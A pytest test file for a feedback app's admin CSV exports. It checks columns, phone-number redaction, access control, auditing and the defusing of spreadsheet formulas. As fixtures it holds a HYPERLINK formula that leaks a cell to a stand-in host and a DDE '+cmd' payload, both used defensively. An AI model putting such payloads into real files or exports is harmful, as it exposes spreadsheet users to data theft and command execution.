"""CSV exports: the right columns and values, no contact details, no formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from feedback_bot import clock, loop
from feedback_bot.exports.routes import DECISION_COLUMNS, ITEM_COLUMNS, safe_cell
from feedback_bot.extensions import db
from feedback_bot.models import AuditEntry, Contact, Decision, FeedbackItem, Role, Topic
from feedback_bot.privacy import PHONE_PLACEHOLDER, redact_phone_numbers

from .conftest import drain, send_sms
from .test_dashboard import sign_in_as

T0 = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
UK = "+447911123456"
POLISH = "+48512345678"
UKRAINE = "+380501234567"
ENGLISH_TEXT = "The lift in our block has been broken for weeks."
FOLLOW_UP = "Call me on 07912 345678 if you need to get in."
FORMULA_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
POLISH_TEXT = "Winda w naszym bloku jest zepsuta od tygodni."
NUMBERS = (UK, POLISH, UKRAINE, "+447912345678")


def seed(app: Flask, client: FlaskClient) -> dict[str, int]:
    clock.freeze(T0)
    send_sms(client, UK, ENGLISH_TEXT, process=False)
    clock.freeze(T0 + timedelta(seconds=5))
    send_sms(
        client, UK, FOLLOW_UP, process=False
    )  # joins the same item (within the coalescing window)
    send_sms(client, POLISH, POLISH_TEXT, process=False)
    send_sms(client, UKRAINE, FORMULA_TEXT, process=False)
    clock.freeze(T0 + timedelta(seconds=20))  # a worker gets to them 20 s after the first
    drain(app)
    with app.app_context():
        items = {i.messages[0].body: i for i in db.session.scalars(select(FeedbackItem))}
        lift, polish, formula = items[ENGLISH_TEXT], items[POLISH_TEXT], items[FORMULA_TEXT]
        lift.topics.append(Topic(name="Housing"))
        lift.topics.append(Topic(name="@SUM(1+1)"))
        decision = Decision(
            title="+cmd|' /C calc'!A0",
            summary="We will repair the lift by 1 March.",
            reason="-2+3 is why",
            outcome="adopted",
            responsible="Housing team",
        )
        db.session.add(decision)
        db.session.commit()
        loop.link(decision, [lift, polish])
        clock.freeze(T0 + timedelta(days=2))
        loop.publish(decision)
        ids = {"lift": lift.id, "polish": polish.id, "formula": formula.id, "decision": decision.id}
    drain(app)  # the English member is told; the Polish one awaits a translation
    clock.freeze(T0 + timedelta(days=2, hours=1))
    send_sms(client, UK, "2")  # "partly"
    drain(app)
    return ids


def download(client: FlaskClient, path: str) -> tuple[str, list[dict[str, str]], list[str]]:
    response = client.get(path)
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    raw = response.get_data().decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(raw, newline=""))
    rows = list(reader)
    return raw, rows, list(reader.fieldnames or [])


def assert_no_phone_numbers(raw: str) -> None:
    for number in NUMBERS:
        digits = number.lstrip("+")
        assert digits not in raw, number
        assert digits[-9:] not in raw, number  # nor the national form
    for national in ("07911 123456", "07912 345678", "07911123456"):
        assert national not in raw


def test_items_csv_has_every_column_and_no_contact_details(app, client):
    ids = seed(app, client)
    sign_in_as(app, client, Role.STAFF)

    raw, rows, columns = download(client, "/admin/export/items.csv")

    assert columns == list(ITEM_COLUMNS)
    assert_no_phone_numbers(raw)
    with app.app_context():
        items = {i.id: i for i in db.session.scalars(select(FeedbackItem))}
        labels = [c.label for c in db.session.scalars(select(Contact))]
    for label in labels:
        assert label not in raw  # not even the pseudonym
    by_ref = {row["ref"]: row for row in rows}
    assert len(rows) == 3

    lift = by_ref[items[ids["lift"]].ref]
    assert lift["created_at"] == "2026-11-23T12:00:00+00:00"
    assert lift["channel"] == "sms"
    assert lift["locale"] == "en"
    assert lift["status"] == "told"
    assert lift["topics"] == "'@SUM(1+1); Housing"  # sorted by name, and defused
    assert lift["decision_id"] == str(ids["decision"])
    assert lift["rating"] == "partly"
    assert lift["acknowledged_at"] == "2026-11-23T12:00:20+00:00"
    assert lift["told_at"] == "2026-11-25T12:00:00+00:00"
    assert lift["messages"] == (
        f"{ENGLISH_TEXT}\nCall me on {PHONE_PLACEHOLDER} if you need to get in."
    )

    polish = by_ref[items[ids["polish"]].ref]
    assert (polish["locale"], polish["status"], polish["told_at"]) == ("pl", "linked", "")
    assert polish["messages"] == POLISH_TEXT

    formula = by_ref[items[ids["formula"]].ref]
    assert formula["messages"] == "'" + FORMULA_TEXT
    assert formula["decision_id"] == ""
    # No raw cell anywhere starts a formula.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_items_csv_date_range(app, client):
    seed(app, client)
    with app.app_context():
        db.session.add(
            FeedbackItem(channel="whatsapp", locale="ar", created_at=T0 + timedelta(days=10))
        )
        db.session.commit()
    sign_in_as(app, client, Role.ADMIN)

    _, rows, _ = download(client, "/admin/export/items.csv?from=2026-12-01")

    assert [(r["channel"], r["locale"], r["acknowledged_at"], r["messages"]) for r in rows] == [
        ("whatsapp", "ar", "", "")
    ]


def test_decisions_csv(app, client):
    ids = seed(app, client)
    sign_in_as(app, client, Role.STAFF)

    raw, rows, columns = download(client, "/admin/export/decisions.csv")

    assert columns == list(DECISION_COLUMNS)
    assert_no_phone_numbers(raw)
    [row] = rows
    assert row["id"] == str(ids["decision"])
    assert row["title"] == "'+cmd|' /C calc'!A0"
    assert row["reason"] == "'-2+3 is why"
    assert (row["outcome"], row["outcome_label"]) == ("adopted", "Adopted")
    assert row["published_at"] == "2026-11-25T12:00:00+00:00"
    assert (row["linked_items"], row["told_items"]) == ("2", "1")
    assert (row["rating_yes"], row["rating_partly"], row["rating_no"]) == ("0", "1", "0")
    assert row["translations"] == ""


def test_exports_are_audited(app, client):
    seed(app, client)
    sign_in_as(app, client, Role.STAFF)
    download(client, "/admin/export/items.csv?from=2026-11-01")
    download(client, "/admin/export/decisions.csv")
    with app.app_context():
        entries = list(db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)))
        exports = [(e.action, e.detail) for e in entries if e.action.startswith("export.")]
    assert exports == [
        ("export.items", {"rows": 3, "from": "2026-11-01"}),
        ("export.decisions", {"rows": 1}),
    ]


def test_exports_refuse_anonymous_users_and_interpreters(app, client):
    for path in ("/admin/export/items.csv", "/admin/export/decisions.csv"):
        response = client.get(path)
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/login")
    sign_in_as(app, client, Role.INTERPRETER)
    for path in ("/admin/export/items.csv", "/admin/export/decisions.csv"):
        assert client.get(path).status_code == 403


def test_safe_cell_defuses_formulas_only():
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_cell("Lift (=broken)") == "Lift (=broken)"
    assert safe_cell(-3) == -3  # a number is not a formula
    assert safe_cell(None) is None
    assert safe_cell(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)) == "2026-01-02T03:04:05+00:00"


def test_phone_numbers_typed_into_messages_are_removed():
    assert redact_phone_numbers("ring 07912 345678 or +48 512 345 678", "GB") == (
        f"ring {PHONE_PLACEHOLDER} or {PHONE_PLACEHOLDER}"
    )
    # Without a region only international numbers can be told apart from other digits.
    assert redact_phone_numbers("flat 12, 2026-11-23, +447912345678", None) == (
        f"flat 12, 2026-11-23, {PHONE_PLACEHOLDER}"
    )


@pytest.mark.parametrize(
    "typed",
    [
        "call 7911123456",  # without its leading 0
        "my wife 600 700 800",  # a Polish mobile, as Poles write it
        "or 0048 600-700-800",
        "+44 7700 900123",  # a range phonenumbers holds no valid numbers in
        "01632 960123",
        "06.12.34.56.78",  # a French mobile, written the French way
        "06-12-34-56-78",
    ],
)
def test_numbers_phonenumbers_would_not_call_valid_are_removed_too(typed):
    redacted = redact_phone_numbers(f"Please ring {typed} after six.", "GB")
    assert redacted.count(PHONE_PLACEHOLDER) == 1, redacted
    assert not any(run in redacted for run in ("7911", "700", "900123", "960123", "56")), redacted


def test_short_runs_of_digits_and_dates_stay():
    text = "Bus 42 at 9:15 on 30.11.2026 14:00, flat 12, £1500 a month since 2024, ticket 123456"
    assert redact_phone_numbers(text, "GB") == text
